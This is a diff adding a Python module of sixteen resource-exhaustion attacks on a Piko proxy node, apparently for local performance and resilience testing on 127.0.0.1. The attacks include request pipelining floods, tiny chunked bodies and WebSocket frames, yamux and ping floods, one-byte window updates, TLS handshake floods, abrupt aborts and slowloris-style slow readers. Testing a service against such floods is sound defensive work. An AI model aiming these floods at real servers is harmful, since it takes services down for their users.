@@ -1,0 +1,237 @@
+"""What an attacker does, with plain sockets and blocking calls. `python -m perf.attacks.weapons NAME …` runs one.
+
+Each does as much as it can until its time is over. What the node answers is read, where the attack is not that it is
+not. A connection that the node ends is opened again, after a moment.
+"""
+
+import contextlib
+import os
+import select
+import socket
+import ssl
+import struct
+import threading
+import time
+from collections.abc import Callable
+from typing import NamedTuple
+
+import click
+
+ATTACKED = "attacked"  # the endpoint that has an agent and a service
+UPGRADE = (
+    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
+)
+NO_MASK = bytes(4)  # a mask of zeros is a mask
+AGAIN_SECONDS = 0.05
+ADDRESS = "127.0.0.2"  # not the victim's: a node may well shut out an address
+NICENESS = 10  # an attacker is on another machine; here it shall not take the victim's processor, but the node's time
+YAMUX = struct.Struct(">BBHLL")
+WINDOW_UPDATE, PING, SYN = 1, 2, 1
+
+
+class Aim(NamedTuple):
+    """The node's ports, and until when."""
+
+    proxy: int
+    upstream: int
+    until: float
+
+
+def request(endpoint: str, *, method: str = "GET", path: str = "/", fields: str = "") -> bytes:
+    """A head as a client sends it."""
+    return f"{method} {path} HTTP/1.1\r\nHost: node.test\r\nx-piko-endpoint: {endpoint}\r\n{fields}\r\n".encode()
+
+
+def frame(payload: bytes, *, opcode: int = 2) -> bytes:
+    """A WebSocket frame of a client's."""
+    size = len(payload)
+    length = bytes((0x80 | size,)) if size < 126 else struct.pack(">BH", 0x80 | 126, size)
+    return bytes((0x80 | opcode,)) + length + NO_MASK + payload
+
+
+def flood(sock: socket.socket, aim: Aim, data: bytes, *, read: bool = True) -> None:
+    """Send `data` again and again, as fast as it is taken; `read` what comes back, or nothing of it."""
+    sock.setblocking(False)
+    rest = memoryview(data)
+    while time.monotonic() < aim.until:
+        readable, writable, _ = select.select([sock] if read else [], [sock], [], 0.2)
+        if readable and not sock.recv(1 << 20):
+            return
+        if writable:
+            rest = rest[sock.send(rest) :] or memoryview(data)
+
+
+def _connected(port: int) -> socket.socket:
+    return socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(ADDRESS, 0))
+
+
+def client(aim: Aim) -> socket.socket:
+    return _connected(aim.proxy)
+
+
+def agent(aim: Aim) -> socket.socket:
+    """A session of an agent's that serves an endpoint of its own."""
+    sock = _connected(aim.upstream)
+    sock.sendall(b"GET /piko/v1/upstream/evil HTTP/1.1\r\nHost: node.test\r\n" + UPGRADE)
+    sock.recv(4096)
+    return sock
+
+
+def pipeline_absent(aim: Aim) -> None:
+    with client(aim) as sock:
+        flood(sock, aim, request("nobody") * 500)
+
+
+def pipeline_present(aim: Aim) -> None:
+    with client(aim) as sock:
+        flood(sock, aim, request(ATTACKED) * 500)
+
+
+def small_chunks(aim: Aim) -> None:
+    with client(aim) as sock:
+        sock.sendall(request(ATTACKED, method="POST", fields="Transfer-Encoding: chunked\r\n"))
+        flood(sock, aim, b"1\r\nx\r\n" * 10_000)
+
+
+def small_frames(aim: Aim) -> None:
+    with client(aim) as sock:
+        sock.sendall(f"GET /_piko/v1/tcp/{ATTACKED} HTTP/1.1\r\nHost: node.test\r\n".encode() + UPGRADE)
+        sock.recv(4096)
+        sock.sendall(frame(b"POST"))
+        flood(sock, aim, frame(b"x") * 10_000)
+
+
+def yamux_pings(aim: Aim) -> None:
+    with agent(aim) as sock:
+        flood(sock, aim, frame(YAMUX.pack(0, PING, SYN, 0, 7) * 5000))
+
+
+def yamux_pings_deaf(aim: Aim) -> None:
+    with agent(aim) as sock:
+        flood(sock, aim, frame(YAMUX.pack(0, PING, SYN, 0, 7) * 5000), read=False)
+
+
+def websocket_pings(aim: Aim) -> None:
+    with agent(aim) as sock:
+        flood(sock, aim, frame(b"x" * 100, opcode=9) * 500)
+
+
+def websocket_pings_deaf(aim: Aim) -> None:
+    with agent(aim) as sock:
+        flood(sock, aim, frame(b"x" * 100, opcode=9) * 500, read=False)
+
+
+def small_windows(aim: Aim) -> None:
+    """Window updates of one byte for a stream that the node has opened, for a client of our own."""
+    with agent(aim) as sock, client(aim) as asking:
+        asking.sendall(request("evil"))
+        time.sleep(0.2)
+        flood(sock, aim, frame(YAMUX.pack(0, WINDOW_UPDATE, 0, 2, 1) * 5000))
+
+
+def accepts(aim: Aim) -> None:
+    while time.monotonic() < aim.until:
+        client(aim).close()
+
+
+def handshakes(aim: Aim) -> None:
+    """TLS handshakes with the upstream port, which speaks TLS."""
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    while time.monotonic() < aim.until:
+        with _connected(aim.upstream) as sock, context.wrap_socket(sock):
+            pass
+
+
+def large_heads(aim: Aim) -> None:
+    fields = "".join(f"x-field-{number}: {'v' * 300}\r\n" for number in range(90))
+    with client(aim) as sock:
+        flood(sock, aim, request(ATTACKED, fields=fields))
+
+
+def bulk(aim: Aim) -> None:
+    with client(aim) as sock:
+        sock.sendall(request(ATTACKED, path="/bulk"))
+        while time.monotonic() < aim.until and sock.recv(1 << 20):
+            pass
+
+
+def aborts(aim: Aim) -> None:
+    """Ask, and go without waiting for the answer."""
+    while time.monotonic() < aim.until:
+        with client(aim) as sock:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            sock.sendall(request(ATTACKED))
+
+
+def slow_readers(aim: Aim, count: int = 125) -> None:
+    """Many downloads that are hardly read."""
+    socks = []
+    for _ in range(count):
+        sock = client(aim)
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        sock.sendall(request(ATTACKED, path="/bulk"))
+        socks.append(sock)
+    while time.monotonic() < aim.until:
+        time.sleep(1)
+        for sock in socks:
+            sock.recv(10)
+
+
+def silence(aim: Aim, count: int = 100) -> None:
+    """Many connections on which nothing is said."""
+    socks = [client(aim) for _ in range(count)]
+    time.sleep(max(0.0, aim.until - time.monotonic()))
+    for sock in socks:
+        sock.close()
+
+
+WEAPONS: dict[str, Callable[[Aim], None]] = {
+    "pipeline-absent": pipeline_absent,
+    "pipeline-present": pipeline_present,
+    "small-chunks": small_chunks,
+    "small-frames": small_frames,
+    "yamux-pings": yamux_pings,
+    "yamux-pings-deaf": yamux_pings_deaf,
+    "websocket-pings": websocket_pings,
+    "websocket-pings-deaf": websocket_pings_deaf,
+    "small-windows": small_windows,
+    "accepts": accepts,
+    "handshakes": handshakes,
+    "large-heads": large_heads,
+    "bulk": bulk,
+    "aborts": aborts,
+    "slow-readers": slow_readers,
+    "silence": silence,
+}
+
+
+def keep_at_it(weapon: Callable[[Aim], None], aim: Aim) -> None:
+    """Use it until its time is over, whatever the node does about it."""
+    while time.monotonic() < aim.until:
+        with contextlib.suppress(OSError):
+            weapon(aim)
+        time.sleep(AGAIN_SECONDS)
+
+
+@click.command()
+@click.argument("name", type=click.Choice(sorted(WEAPONS)))
+@click.option("--proxy", type=int, required=True)
+@click.option("--upstream", type=int, required=True)
+@click.option("--connections", type=int, default=1)
+@click.option("--seconds", type=float, default=3.0)
+def main(name: str, proxy: int, upstream: int, connections: int, seconds: float) -> None:
+    """Attack a node on 127.0.0.1, by a thread for each connection."""
+    os.nice(NICENESS)
+    aim = Aim(proxy, upstream, time.monotonic() + seconds)
+    threads = [threading.Thread(target=keep_at_it, args=(WEAPONS[name], aim)) for _ in range(connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+if __name__ == "__main__":
+    main()
